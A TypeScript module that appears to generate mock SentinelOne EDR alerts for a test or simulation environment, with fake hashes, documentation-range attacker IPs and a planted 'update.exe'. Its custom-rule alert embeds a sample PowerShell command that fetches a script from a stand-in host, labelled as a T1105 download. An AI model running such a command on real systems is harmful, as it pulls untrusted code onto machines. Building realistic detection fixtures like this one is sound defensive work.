import { type Micros, microsOf } from '../time.ts';
import type { Agent } from './agent.ts';
import type { Random } from './random.ts';
import type { Threat } from './threat.ts';
import { idAt, type Place, written } from './world.ts';

/** Times of alerts have three digits. */
export const alertTime = (at: Micros): string => `${written(at).slice(0, 23)}Z`;

/** A UUID of version 7: it begins with the time. */
function uuidAt(at: Micros, random: Random): string {
  const ms = Math.floor(at / 1000)
    .toString(16)
    .padStart(12, '0');
  const variant = random.pick(['8', '9', 'a', 'b']);
  return `${ms.slice(0, 8)}-${ms.slice(8)}-7${random.hex(3)}-${variant}${random.hex(3)}-${random.hex(12)}`;
}

/** What raised an alert. */
export interface AlertOrigin {
  product: string;
  vendor: string;
  surface: string;
  name: string;
  severity: string;
  classification: string;
  externalId?: string;
}

export type Alert = ReturnType<typeof createAlert>;

const scopeItem = (id: string, name: string) => ({ id, name });

/** A node of the unified alerts, with all fields that the schema has. */
export function createAlert(
  at: Micros,
  origin: AlertOrigin,
  place: Place,
  agent: Agent | undefined,
  random: Random,
) {
  const raised = alertTime(at);
  const [network] = agent?.networkInterfaces ?? [];
  return {
    id: uuidAt(at, random),
    externalId: origin.externalId ?? random.uuid(),
    name: origin.name,
    description: `${origin.product} raised this alert.`,
    severity: origin.severity,
    status: 'NEW',
    analystVerdict: 'UNDEFINED',
    classification: origin.classification,
    confidenceLevel: random.pick(['MALICIOUS', 'SUSPICIOUS']),
    result: 'UNMITIGATED',
    storylineId: agent ? random.hex(16).toUpperCase() : null,
    ticketId: null,
    noteExists: false,
    detectedAt: alertTime(at - microsOf(random.between(5, 900))),
    createdAt: raised,
    updatedAt: raised,
    firstSeenAt: raised,
    lastSeenAt: raised,
    attackSurfaces: [origin.surface],
    dataSources: ['PROCESS'],
    detectionSource: { product: origin.product, vendor: origin.vendor },
    analytics: { category: 'Reputation', name: origin.name, typeValue: 'STATIC', uid: null },
    assignee: null as { userId: string; email: string; fullName: string } | null,
    aiInvestigation: null,
    assets: agent
      ? [
          {
            id: agent.id,
            agentUuid: agent.uuid,
            agentVersion: agent.agentVersion,
            name: agent.computerName,
            category: agent.machineType === 'server' ? 'Server' : 'Workstation',
            subcategory: null,
            osType: agent.osType.toUpperCase(),
            osVersion: agent.osRevision,
            lastLoggedInUser: agent.lastLoggedInUserName || null,
            role: 'TARGET',
            status: 'ACTIVE',
            connectivityToConsole: agent.isActive ? 'ONLINE' : 'OFFLINE',
          },
        ]
      : [],
    detectionTime: {
      attacker: { host: null, ip: `203.0.113.${random.between(1, 254)}` },
      targetUser: {
        name: agent?.lastLoggedInUserName || null,
        domain: agent?.domain ?? null,
        emailAddress: null,
      },
      scope: {
        accountId: place.accountId,
        accountName: place.accountName,
        siteId: place.siteId,
        siteName: place.siteName,
        groupId: place.groupId,
        groupName: place.groupName,
      },
      assets: agent
        ? [
            {
              asset: {
                ipV4: network?.inet[0] ?? null,
                ipV6: network?.inet6[0] ?? null,
                domain: agent.domain,
                osName: agent.osName,
                agentVersion: agent.agentVersion,
                consoleIpAddress: agent.externalIp,
              },
              cloud: null,
              kubernetes: null,
            },
          ]
        : [],
    },
    process: agent
      ? {
          cmdLine: null,
          parentName: 'explorer.exe',
          username: `CORP\\${agent.lastLoggedInUserName || 'SYSTEM'}`,
          file: {
            name: 'update.exe',
            path: 'C:\\Users\\Public\\update.exe',
            md5: random.hex(32),
            sha1: random.hex(40),
            sha256: random.hex(64),
            certSubject: null,
          },
        }
      : null,
    realTime: {
      scope: {
        account: scopeItem(place.accountId, place.accountName),
        site: scopeItem(place.siteId, place.siteName),
        group: scopeItem(place.groupId, place.groupName),
      },
    },
    indicators: [],
    observables: [{ name: 'file', type: 'FILE', value: 'update.exe' }],
  };
}

/** The alert of a threat. */
export const originOf = ({ id, threatInfo }: Threat): AlertOrigin => ({
  product: 'EDR',
  vendor: 'SentinelOne',
  surface: 'ENDPOINT',
  name: `${threatInfo.threatName} detected as ${threatInfo.classification}`,
  severity: threatInfo.confidenceLevel === 'malicious' ? 'HIGH' : 'MEDIUM',
  classification: threatInfo.classification.toUpperCase().replaceAll(' ', '_'),
  externalId: id,
});

/** An alert of a custom rule as the REST list has it. Its id is another one than that of the unified alert. */
export function createRuleAlert(at: Micros, name: string, agent: Agent, random: Random) {
  const id = idAt(at, random);
  return {
    agentDetectionInfo: {
      accountId: agent.accountId,
      machineType: agent.machineType,
      name: agent.computerName,
      osFamily: agent.osType,
      osName: agent.osName,
      osRevision: agent.osRevision,
      siteId: agent.siteId,
      uuid: agent.uuid,
      version: agent.agentVersion,
    },
    agentRealtimeInfo: {
      accountId: agent.accountId,
      accountName: agent.accountName,
      groupId: agent.groupId,
      groupName: agent.groupName,
      id: agent.id,
      name: agent.computerName,
      siteId: agent.siteId,
      siteName: agent.siteName,
    },
    alertInfo: {
      alertId: id,
      analystVerdict: 'Undefined',
      createdAt: written(at),
      dnsRequest: 'updates.example.org',
      dstIp: `203.0.113.${random.between(1, 254)}`,
      dstPort: '443',
      eventType: 'TCPV4',
      hitType: 'Events',
      incidentStatus: 'Unresolved',
      netEventDirection: 'OUTGOING',
      reportedAt: written(at),
      source: 'STAR',
      srcIp: agent.networkInterfaces[0]?.inet[0] ?? '',
      srcPort: String(random.between(1024, 65_000)),
      updatedAt: written(at),
    },
    containerInfo: { id: null, image: null, labels: null, name: null },
    ruleInfo: {
      description: 'A download (T1105).',
      id: idAt(at, random),
      name,
      queryType: 'events',
      scopeLevel: 'account',
      severity: 'High',
      treatAsThreat: 'UNDEFINED',
    },
    sourceProcessInfo: {
      commandline: 'powershell -c "iwr https://updates.example.org/a.ps1"',
      fileHashSha256: random.hex(64),
      filePath: 'C:\\Windows\\System32\\powershell.exe',
      name: 'powershell.exe',
      pid: String(random.between(400, 60_000)),
      storyline: random.hex(16).toUpperCase(),
      user: `CORP\\${agent.lastLoggedInUserName || 'SYSTEM'}`,
    },
  };
}
